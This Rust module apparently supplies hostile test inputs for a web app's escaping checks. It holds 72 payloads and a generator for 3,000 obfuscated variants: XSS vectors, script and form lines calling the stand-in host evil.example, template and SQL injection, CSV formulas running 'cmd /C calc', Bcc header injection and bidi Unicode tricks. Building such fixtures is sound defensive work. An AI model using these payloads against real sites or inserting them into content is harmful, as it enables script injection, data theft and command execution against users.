//! What somebody could write to make a page do something (TRUST.md F8, S8): markup, attributes, addresses,
//! templates, formulas, signs that turn or hide what stands around them.

/// One of each kind, each under 80 signs so that it fits a title.
pub const PAYLOADS: [&str; 72] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\u{2028}src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>Confirm</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>Lisboa</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">Lisboa</a>",
    "<a href=//evil.example>Lisboa</a>",
    "<b onmouseover=alert(1)>Lisboa</b>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<div style=position:fixed;top:0>Lisboa</div>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://lisboa.pt@evil.example/",
    "[Lisboa](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "{{#each x}}{{{y}}}{{/each}} ${7*7} <%= 7*7 %>",
    "{{{frame.csrf}}} {{> layout/place}} {{lookup this 'constructor'}}",
    "{$title} { DATETIME($day) } {\"\"}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y \"z\">]>&y;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "=HYPERLINK(\"http://evil.example\",\"Lisboa\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ";=1+1;\",=1+1,\"",
    "'; DROP TABLE proposals; --",
    "\" OR 1=1 NEAR(* proposal_search",
    "Bcc: all@evil.example\r\nSubject: x",
    "\u{202e}txt.exe\u{202c} Lisboa \u{2066}x\u{2069}",
    "Lis\u{200b}boa \u{feff}\u{0}\u{7}\u{1b}[31m x",
    "\u{fdfd}Z\u{0341}\u{0341}\u{0341}\u{0341}\u{0341}algo \u{1f469}\u{200d}\u{1f692}",
];

/// What a payload breaks out of.
const OUT_OF: [&str; 10] = [
    "",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "</bdi>",
    "-->",
    "]]>",
    "</option></select>",
    "`>",
];

/// What it then does; `N` is its number, so that it can be found again.
const THEN: [&str; 30] = [
    "<script>alert(N)</script>",
    "<script src=//evil.example/N></script>",
    "<img src=x onerror=alert(N)>",
    "<img src=//evil.example/N>",
    "<image href=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg><script>alert(N)</script>",
    "<svg><animate onbegin=alert(N)>",
    "<math><a href=javascript:alert(N)>x</a>",
    "<iframe src=javascript:alert(N)>",
    "<iframe srcdoc=alert(N)>",
    "<object data=//evil.example/N>",
    "<embed src=//evil.example/N>",
    "<link rel=stylesheet href=//evil.example/N>",
    "<style>@import'//evil.example/N'</style>",
    "<base href=//evil.example/N>",
    "<meta http-equiv=refresh content=N>",
    "<form action=//evil.example/N>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)>",
    "<textarea autofocus onfocus=alert(N)>",
    "<details open ontoggle=alert(N)>",
    "<video src=x onerror=alert(N)>",
    "<audio src=x onerror=alert(N)>",
    "<body onload=alert(N)>",
    "<a href=javascript:alert(N)>x</a>",
    "<a href=//evil.example/N>x</a>",
    "<p style=color:red id=N>",
    "<template><img onerror=alert(N)>",
    "<x onclick=alert(N) tabindex=1>",
];

/// How it hides itself.
const HIDDEN: [fn(&str) -> String; 10] = [
    str::to_owned,
    |text| text.to_ascii_uppercase(),
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "%3C").replace('>', "%3E"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace(' ', "/"),
    |text| text.replace('<', "<<"),
    |text| text.replace('=', "&#61;"),
    |text| text.replace("alert", "&#x61;lert"),
    |text| text.replace('>', " >"),
];

/// Three thousand: every way out, every deed, every disguise.
pub fn made() -> Vec<String> {
    let mut all = Vec::new();
    for out in OUT_OF {
        for then in THEN {
            for hidden in HIDDEN {
                let numbered = then.replace('N', &(1_000 + all.len()).to_string());
                all.push(hidden(&format!("{out}{numbered}")));
            }
        }
    }
    all
}

/// As many of `all` from `next` on as `signs` take, one a line; `next` moves on.
pub fn deal(all: &[String], next: &mut usize, signs: usize) -> String {
    let mut dealt = String::new();
    while let Some(one) = all.get(*next) {
        if dealt.chars().count() + one.chars().count() + 2 > signs {
            break;
        }
        dealt.push_str(one);
        dealt.push('\n');
        *next += 1;
    }
    dealt
}

/// Those from `first` on, as many as `signs` take, one a line.
pub fn lines(first: usize, signs: usize) -> String {
    let mut all = String::new();
    for payload in PAYLOADS.iter().cycle().skip(first).take(PAYLOADS.len()) {
        if all.chars().count() + payload.chars().count() + 2 > signs {
            break;
        }
        all.push_str(payload);
        all.push('\n');
    }
    all
}

/// The payload of that number, going round.
pub fn one(number: usize) -> &'static str {
    PAYLOADS[number % PAYLOADS.len()]
}
